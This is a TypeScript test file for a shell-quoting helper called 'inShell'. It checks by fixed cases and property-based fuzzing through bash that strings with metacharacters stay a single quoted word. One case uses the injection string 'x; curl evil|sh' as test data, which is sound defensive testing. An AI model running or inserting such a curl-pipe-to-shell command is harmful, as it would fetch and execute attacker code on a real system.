import { execFileSync } from 'node:child_process'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { inShell } from '../../src/domain/in-shell.ts'

test.for([
  ['sts.amazonaws.com', 'sts.amazonaws.com'],
  ['requested/files.trust-policy.json', 'requested/files.trust-policy.json'],
  ['x; curl evil|sh', "'x; curl evil|sh'"],
  ["it's", String.raw`'it'\''s'`],
  ['', "''"],
  ['a\u001b[2J\nb', String.raw`$'a\u001b[2J\u000ab'`],
])('a shell is given %s as %s', ([text = '', word]) => {
  expect(inShell(text)).toBe(word)
})

test('a shell reads it as the one word that it was', () => {
  const texts = fc.sample(fc.string({ unit: fc.constantFrom(...' \'"\\$`;|&<>()*?!#~-\n\t\u001babc='.split('')) }), 60)
  const said = execFileSync('bash', ['-c', String.raw`printf '%s\0' ${texts.map(inShell).join(' ')}`], {
    encoding: 'utf8',
    env: { ...process.env, LC_ALL: 'C.UTF-8' },
  })
  expect(said.split('\0').slice(0, -1)).toEqual(texts)
})
